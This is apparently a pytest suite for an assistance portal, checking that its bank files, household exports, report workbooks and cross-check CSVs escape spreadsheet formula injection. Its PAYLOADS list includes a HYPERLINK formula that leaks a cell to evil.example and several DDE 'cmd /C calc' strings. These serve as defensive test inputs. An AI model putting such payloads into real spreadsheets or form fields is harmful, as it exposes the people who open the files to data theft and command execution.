"""No file the portal writes carries a live formula: every writer × every formula trigger.

Each writer below is fed text starting with ``=``, ``+``, ``-``, ``@``, a tab and a carriage
return in every column a person can type into (payee, bank, household and union names,
programs…); the file it produces is read back as Excel would read it, and no cell may be a
formula or start with a trigger unescaped. A module that starts writing .xlsx or .csv without
being listed here fails ``test_every_module_that_writes_a_spreadsheet_is_covered``.
"""

import ast
import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from cases.excel import households_export_xlsx, households_template_xlsx
from cases.models import Household
from cases.register.engine import KINDS
from cases.register.workbook import register_template_xlsx
from cases.selectors import household_list
from cases.services import household_create
from hardship.models import ExportJob, Role, Union
from hardship.services import export_run
from programs.assistance import services as money
from programs.assistance.demo import seed_programs
from programs.assistance.models import Batch, Entitlement, Payment, Program
from programs.reports import xlsx as returns
from programs.reports.selectors import ExitFigures
from tests.cases.conftest import grassroots, household_data, person, standard  # noqa: F401
from tests.conftest import ROOT
from tests.factories import user_with_role

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What an attacker types into a name field, one per trigger (OWASP CSV injection).
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"点击领取")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
# A number written into a CSV is text on the way back; a plain number is never run by a spreadsheet.
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


@dataclass(frozen=True)
class Writer:
    """One kind of file the portal writes and how to make it write a given text everywhere."""

    name: str
    module: str  # where its cells are put together
    produce: Callable  # (payload, request) -> [(format, bytes)]; stores the payload in every typed field
    carries: frozenset = frozenset()  # columns filled from typed text: each shows the payload, escaped
    derived: frozenset = frozenset()  # text columns the portal composes (a reference, a masked number)
    fixed: bool = False  # no user text at all (a template): only the formula checks apply


def _poison(queryset, payload: str, *fields: str) -> None:
    """Store the payload in each field as far as its length allows."""
    model = queryset.model
    queryset.update(**{f: payload[: model._meta.get_field(f).max_length] for f in fields})


def _approved_batch(tree, clerk, *, amounts=("350.00",), card="6222021234567890128") -> Batch:
    """An approved batch of the city's fund paying one household, one payment per amount."""
    city = tree["city"]
    seed_programs(union=city)
    household = household_create(actor=clerk, union=tree["company"], members=[person()], data=household_data())
    batch = Batch.objects.create(union=city, period="2026-Q2", status=Batch.Status.APPROVED, freeze=Batch.Freeze.DONE)
    for program, amount in zip(Program.objects.filter(fund_union=city), amounts, strict=False):
        entitlement = Entitlement.objects.create(household=household, program=program, period_key="2026-Q2",
                                                 batch=batch, amount=Decimal(amount), tier="extreme",
                                                 union=household.union)  # fmt: skip
        Payment.objects.create(entitlement=entitlement, batch=batch, household=household, amount=Decimal(amount),
                               status=Payment.Status.APPROVED, payee_name="蒋建华", bank_name="中国工商银行",
                               card_number=card)  # fmt: skip
    return batch


def _bank_files(payload: str, request) -> list[tuple[str, bytes]]:
    request.getfixturevalue("standard")
    tree = request.getfixturevalue("tree")
    batch = _approved_batch(tree, request.getfixturevalue("grassroots"))
    _poison(Payment.objects.all(), payload, "payee_name", "bank_name", "card_number")
    _poison(Program.objects.filter(pk__in=batch.entitlements.values("program")), payload, "name")
    _poison(Batch.objects.filter(pk=batch.pk), payload, "period")
    approver, bank = user_with_role(Role.FUND_APPROVER, tree["city"]), Payment.objects.get().bank_name
    return [(fmt, money.bank_file(actor=approver, batch_id=batch.pk, bank=bank, fmt=fmt)[0]) for fmt in ("xlsx", "csv")]


def _household_export(payload: str, request) -> list[tuple[str, bytes]]:
    tree, clerk = request.getfixturevalue("tree"), request.getfixturevalue("grassroots")
    request.getfixturevalue("standard")
    household_create(actor=clerk, union=tree["company"], members=[person()], data=household_data())
    _poison(Household.objects.all(), payload, "head_name", "file_number", "phone")
    _poison(Union.objects.filter(pk=tree["company"].pk), payload, "name")
    return [("xlsx", households_export_xlsx(households=household_list(user=clerk)))]


def _written_by_the_task(kind: str, owner, params: dict, union, fmt: str) -> bytes:
    """The same file as a worker writes it for 「我的导出」 (hardship.services.export_run)."""
    job = ExportJob.objects.create(owner=owner, kind=kind, title="t", params=params, union=union, roles=[],
                                   filename=f"t.{fmt}", content_type="x", expires_at=timezone.now())  # fmt: skip
    export_run(job_id=job.pk)
    job.refresh_from_db()
    with job.file.open("rb") as handle:
        return handle.read()


def _bank_files_by_task(payload: str, request) -> list[tuple[str, bytes]]:
    request.getfixturevalue("settings").MEDIA_ROOT = request.getfixturevalue("tmp_path")
    request.getfixturevalue("standard")
    tree = request.getfixturevalue("tree")
    batch = _approved_batch(tree, request.getfixturevalue("grassroots"))
    _poison(Payment.objects.all(), payload, "payee_name", "bank_name", "card_number")
    _poison(Program.objects.filter(pk__in=batch.entitlements.values("program")), payload, "name")
    _poison(Batch.objects.filter(pk=batch.pk), payload, "period")
    owner, bank = user_with_role(Role.FUND_APPROVER, tree["city"]), Payment.objects.get().bank_name
    return [(fmt, _written_by_the_task("bank_file", owner, {"batch": batch.pk, "bank": bank, "format": fmt},
                                       tree["city"], fmt)) for fmt in ("xlsx", "csv")]  # fmt: skip


def _household_export_by_task(payload: str, request) -> list[tuple[str, bytes]]:
    request.getfixturevalue("settings").MEDIA_ROOT = request.getfixturevalue("tmp_path")
    tree, clerk = request.getfixturevalue("tree"), request.getfixturevalue("grassroots")
    request.getfixturevalue("standard")
    household_create(actor=clerk, union=tree["company"], members=[person()], data=household_data())
    _poison(Household.objects.all(), payload, "head_name", "file_number", "phone")
    _poison(Union.objects.filter(pk=tree["company"].pk), payload, "name")
    return [("xlsx", _written_by_the_task("households", clerk, {}, tree["company"], "xlsx"))]


def _template(payload: str, request) -> list[tuple[str, bytes]]:
    return [("xlsx", households_template_xlsx())]


def _register_templates(payload: str, request) -> list[tuple[str, bytes]]:
    return [("xlsx", register_template_xlsx(kind, kind.examples)) for kind in KINDS.values()]


def _quarterly_return(payload: str, request) -> list[tuple[str, bytes]]:
    rows = [{"union": payload, "program": payload, "households": 2, "people": 5, "money": Decimal("-350.00")}]
    return [("xlsx", returns.quarterly_return_xlsx("2026-Q2", rows))]


def _exit_return(payload: str, request) -> list[tuple[str, bytes]]:
    figures = ExitFigures(year=2026, on_file_at_start=2, filed_in_year=2, exits=2, out_of_hardship=1, relieved=1)
    return [("xlsx", returns.exit_return_xlsx(2026, [(payload, figures)], figures))]


def _request_file(payload: str, request) -> list[tuple[str, bytes]]:
    from cases.crosscheck import services as xs
    from tests.cases.test_crosscheck import consent, registry, request_for

    tree, clerk = request.getfixturevalue("tree"), request.getfixturevalue("grassroots")
    request.getfixturevalue("standard")
    household = household_create(actor=clerk, union=tree["company"], members=[person()], data=household_data())
    Household.objects.filter(pk=household.pk).update(status="filed")
    consent(clerk, household, household.members.get())
    _poison(household.members.all(), payload, "name")
    centre = user_with_role(Role.CENTRE_STAFF, tree["city"])
    check = request_for(centre, tree, "dibao")
    return [("csv", xs.request_file(actor=centre, check=check, registry=registry("dibao")))]


WRITERS = (
    Writer("bank file", "programs.assistance.services", _bank_files,
           carries=frozenset({"收款人姓名", "银行卡号", "开户银行"}), derived=frozenset({"参考号", "摘要"})),
    Writer("household export", "cases.excel.export", _household_export,
           carries=frozenset({"户主", "职工编号", "所属工会"}),
           derived=frozenset({"身份证号（脱敏）", "状态", "困难类别", "主要致困原因", "联系电话（脱敏）"})),
    # The same writers when a worker writes the file (a large bank file or list, 「我的导出」).
    Writer("bank file (task)", "programs.assistance.services", _bank_files_by_task,
           carries=frozenset({"收款人姓名", "银行卡号", "开户银行"}), derived=frozenset({"参考号", "摘要"})),
    Writer("household export (task)", "cases.excel.export", _household_export_by_task,
           carries=frozenset({"户主", "职工编号", "所属工会"}),
           derived=frozenset({"身份证号（脱敏）", "状态", "困难类别", "主要致困原因", "联系电话（脱敏）"})),
    Writer("import template", "cases.excel.template", _template, fixed=True),
    Writer("register templates", "cases.register.workbook", _register_templates, fixed=True),
    Writer("quarterly return", "programs.reports.xlsx", _quarterly_return, carries=frozenset({"工会", "帮扶项目"})),
    Writer("exit return", "programs.reports.xlsx", _exit_return, carries=frozenset({"工会"})),
    Writer("cross-check request file", "cases.crosscheck.services", _request_file, carries=frozenset({"姓名"}),
           derived=frozenset({"身份证号", "与户主关系", "家庭编号"})),
)  # fmt: skip


def _sheets(fmt: str, content: bytes) -> list[list[list]]:
    """Every sheet as rows of (value, is_formula), the way a spreadsheet program would see it."""
    if fmt == "csv":
        text = content.decode("utf-8-sig")
        return [[[(cell, False) for cell in row] for row in csv.reader(io.StringIO(text, newline=""))]]
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [[[(c.value, c.data_type == "f") for c in row] for row in sheet.iter_rows()] for sheet in book.worksheets]


def _read_back(fmt: str, text: str) -> str:
    """Text as it comes back: XML turns a carriage return into a line feed."""
    return text.replace("\r", "\n") if fmt == "xlsx" else text


def _runs(fmt: str, value) -> bool:
    if not isinstance(value, str) or not value.startswith((*TRIGGERS, _read_back(fmt, "\r"))):
        return False
    return fmt == "xlsx" or not PLAIN_NUMBER.fullmatch(value)


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
@pytest.mark.parametrize("writer", WRITERS, ids=lambda w: w.name)
def test_no_file_the_portal_writes_runs_typed_text_as_a_formula(writer, trigger, request):
    payload = PAYLOADS[trigger]

    files = writer.produce(payload, request)

    for fmt, content in files:
        for sheet in _sheets(fmt, content):
            cells = [(value, formula) for row in sheet for value, formula in row]
            assert not [v for v, formula in cells if formula], f"{writer.name} ({fmt}) wrote a formula"
            assert not [v for v, _ in cells if _runs(fmt, v)], f"{writer.name} ({fmt}) left a trigger unescaped"
            if writer.fixed:
                continue
            header, data = [v for v, _ in sheet[0]], sheet[1:]
            assert data, f"{writer.name} ({fmt}) wrote no rows: the payload was never tested"
            for index, column in enumerate(header):
                values = [row[index][0] for row in data if index < len(row)]
                if column in writer.carries:
                    # The text reached the file, shown as typed behind the quote, not dropped or mangled.
                    shown = _read_back(fmt, "'" + payload[:7])
                    assert any(isinstance(v, str) and v.startswith(shown) for v in values), column
                elif any(isinstance(v, str) and v for v in values) and fmt == "xlsx":
                    # A new text column must be declared, so it gets a payload of its own.
                    assert column in writer.derived, f"{writer.name}: text column “{column}” is not covered"


def test_the_bank_file_keeps_card_numbers_as_text_and_amounts_exact(tree, standard, grassroots):  # noqa: F811
    batch = _approved_batch(tree, grassroots, amounts=("350.00", "9999999999.99"), card="0622021234567890128")
    approver = user_with_role(Role.FUND_APPROVER, tree["city"])

    xlsx, _ = money.bank_file(actor=approver, batch_id=batch.pk, bank="中国工商银行", fmt="xlsx")
    csv_file, _ = money.bank_file(actor=approver, batch_id=batch.pk, bank="中国工商银行", fmt="csv")

    rows = list(openpyxl.load_workbook(io.BytesIO(xlsx)).worksheets[0].iter_rows(min_row=2))
    assert [(r[2].value, r[2].data_type) for r in rows] == [("0622021234567890128", "s")] * 2
    assert [Decimal(str(r[3].value)) for r in rows] == [Decimal("350.00"), Decimal("9999999999.99")]
    assert [(r[3].data_type, r[3].number_format) for r in rows] == [("n", "0.00")] * 2
    lines = list(csv.reader(io.StringIO(csv_file.decode("utf-8-sig"))))[1:]
    assert [r[2] for r in lines] == ["0622021234567890128"] * 2
    assert [r[3] for r in lines] == ["350.00", "9999999999.99"]


def test_a_negative_number_stays_a_number(tree):
    rows = [{"union": "惠山区总工会", "program": "冲回", "households": 1, "people": 1, "money": Decimal("-350.00")}]

    sheet = openpyxl.load_workbook(io.BytesIO(returns.quarterly_return_xlsx("2026-Q2", rows))).active

    assert sheet.cell(row=2, column=5).value == -350
    assert sheet.cell(row=2, column=5).data_type == "n"


# Every writer is listed above --------------------------------------------------------------------

SKIPPED_DIRS = {".venv", "tests", "docs", "node_modules", "static", "templates", "locale", "migrations"}
HELPER = "hardship.spreadsheet"


def _writes_spreadsheets(tree: ast.AST) -> bool:
    """Whether a module writes .xlsx or .csv: openpyxl's Workbook, a csv writer, or the shared helper."""
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            names = {a.name for a in node.names}
            if node.module.startswith("openpyxl") and "Workbook" in names:
                return True
            if node.module == "csv" and names & {"writer", "DictWriter"}:
                return True
            if node.module.startswith(("xlsxwriter", "xlwt", HELPER)):
                return True
        if isinstance(node, ast.Import) and any(a.name.startswith(("xlsxwriter", "xlwt", HELPER)) for a in node.names):
            return True
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and (node.value.id, node.attr) in {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook")}
        ):
            return True
        if isinstance(node, ast.Constant) and isinstance(node.value, str) and "text/csv" in node.value:
            return True
    return False


def _writer_modules() -> set[str]:
    found = set()
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if SKIPPED_DIRS & set(relative.parts):
            continue
        if _writes_spreadsheets(ast.parse(path.read_text(encoding="utf-8"))):
            found.add(".".join(relative.with_suffix("").parts))
    return found


def test_every_module_that_writes_a_spreadsheet_is_covered():
    assert _writer_modules() == {w.module for w in WRITERS} | {HELPER}


def test_only_the_shared_helper_builds_csv_rows():
    """One place turns rows into CSV, so no CSV skips the escaping."""
    users = set()
    for module in _writer_modules():
        source = (ROOT / (module.replace(".", "/") + ".py")).read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\b", source):
            users.add(module)
    assert users == {HELPER}
